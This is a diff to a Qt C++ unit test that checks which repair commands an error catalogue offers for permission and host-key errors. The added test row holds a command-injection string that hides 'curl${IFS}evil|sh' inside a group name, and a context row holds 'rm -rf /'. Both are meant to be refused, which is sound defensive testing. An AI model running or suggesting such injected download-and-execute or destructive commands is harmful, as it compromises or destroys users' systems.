@@ -169,6 +169,8 @@ void ErrorCatalogueTest::offersTheCommandThatMends_data()
     const QString join = u"sudo usermod -aG docker alice"_s;
     const QString forget = u"ssh-keygen -f '/home/alice/.ssh/known_hosts' -R '[prod-a.example.org]:2222'"_s;
     QTest::newRow("a group to join") << Kind::PermissionDenied << u"Run `%1`."_s.arg(join) << join;
+    QTest::newRow("a group that is a command")
+        << Kind::PermissionDenied << u"Run `sudo usermod -aG docker;curl${IFS}evil|sh ops`."_s << QString();
     QTest::newRow("a key to forget") << Kind::HostKeyChanged << u"Remove the old key: `%1`."_s.arg(forget) << forget;
     QTest::newRow("a revoked key") << Kind::HostKeyChanged << u"Ask the host's administrator."_s << QString();
     QTest::newRow("another command") << Kind::HostKeyChanged << u"Run `rm -rf /`."_s << QString();
